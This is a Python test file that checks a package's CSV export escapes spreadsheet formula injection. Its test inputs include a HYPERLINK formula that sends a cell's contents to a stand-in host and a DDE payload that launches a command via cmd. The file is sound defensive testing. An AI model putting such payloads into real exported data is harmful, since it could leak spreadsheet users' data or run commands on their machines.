"""Test that one module writes CSV, and that a spreadsheet reads no field of a table as a formula."""

from __future__ import annotations

import ast
import csv
import io

import numpy as np
import pytest

from probcal._io import csv_text, data_text, unescape_formula
from probcal.store.folder import CellResult, Store
from tests.commands import probcal
from tests.source_trees import PACKAGE, trees
from tests.stored_rows import stored_rows, write_rows

WRITERS = {"writer", "DictWriter", "to_csv", "savetxt"}
"""Names of what writes delimited text: in csv, pandas and numpy."""
OF_DATA = {
    "probcal/try_table/experiment_files.py": "writes rows of data, from which the very values are read again",
    "probcal/try_table/export.py": "writes the identifiers of a user's own rows, to be joined to them",
    "probcal/deploy/model_folder.py": "writes the identifiers of a user's own rows, to be joined to them",
    "probcal/reading/output_file.py": "writes the columns of a user's own file as they are there",
}
FORMULA = '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")'
LABELS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\uff1d1"]


def calls(wanted):
    """Return the names among ``wanted`` that each file calls, by file."""
    found = {}
    for path, tree in trees().items():
        names = {
            node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            for node in ast.walk(tree)
            if isinstance(node, ast.Call)
        }
        if names & wanted:
            found[path.relative_to(PACKAGE.parent).as_posix()] = names & wanted
    return found


def test_one_module_writes_csv():
    assert set(calls(WRITERS)) == {"probcal/_io.py"}


def test_only_listed_modules_write_unescaped_data():
    assert set(calls({"data_text"})) == set(OF_DATA)


@pytest.mark.parametrize("text", LABELS)
def test_text_like_a_formula_gets_a_quote(text):
    [[field]] = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
    assert field == "'" + text
    assert unescape_formula(field) == text


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "-inf", ".5", "0.3 - 0.4", "- 0.326", "-", "-0.5 -1"])
def test_numbers_are_written_unchanged(number):
    assert csv_text([[number]]) == number + "\n"


@pytest.mark.parametrize("value", [-0.5, float("-inf"), np.float64(-2), -3, None, True])
def test_values_other_than_text_are_written_unchanged(value):
    assert "'" not in csv_text([[value, "x"]])


@pytest.mark.parametrize("text", ["Adult", "it's", "'tis", "'=1", "''=1", "a=b", "", "J48 - bagged"])
def test_escaped_text_is_read_back_unchanged(text):
    [[field, _]] = csv.reader([csv_text([[text, "x"]])])
    assert unescape_formula(field) == text


def test_data_text_is_not_escaped():
    assert data_text([["=1", "-", "+"]]) == "=1,-,+\n"


@pytest.fixture
def hostile(tmp_path):
    """Return the folder of results whose experiment, title, labels and groups are formulas."""
    store = Store(tmp_path / "results")
    columns = [
        {"learner": "tree", "method": method, "label": FORMULA, "group": FORMULA, "settings": {}}
        for method in ("direct", "probing")
    ]
    with store.writing(FORMULA):
        store.write_experiment(
            {"name": FORMULA, "title": FORMULA, "paper": None, "metrics": ["rms"], "columns": columns,
             "datasets": [{"name": "adult", "title": FORMULA}], "repetitions": {"adult": 3}}
        )  # fmt: skip
        for method, rms in (("direct", 0.3), ("probing", 0.2)):
            for split in range(3):
                metrics = {"rms": rms + split / 100}
                store.add(
                    CellResult("adult", split, "tree", method, "done", "run", 1.0, metrics=metrics, n_train=9, n_test=9)
                )
    return store.folder


@pytest.mark.parametrize("command", ["table", "compare"])
def test_no_csv_field_of_a_command_is_a_formula(hostile, command):
    done = probcal(command, hostile, "-f", "csv")
    assert done.exit_code == 0, done.output
    assert "HYPERLINK" in done.stdout
    fields = [field for row in csv.reader(io.StringIO(done.stdout)) for field in row]
    assert not [field for field in fields if field.startswith(("=", "+", "@"))]


def test_accepted_numbers_survive_hostile_names_and_gaps(hostile):
    write_rows(hostile, [row for row in stored_rows(hostile) if row["repetition"]])
    assert "INCOMPLETE" in probcal("check", hostile, "--accept").output, "the first repetition is missing"
    assert "adult,tree,direct,rms,- 0.31 0.32\n" in (hostile / "accepted.csv").read_text()
    assert "out of band" not in probcal("check", hostile).output
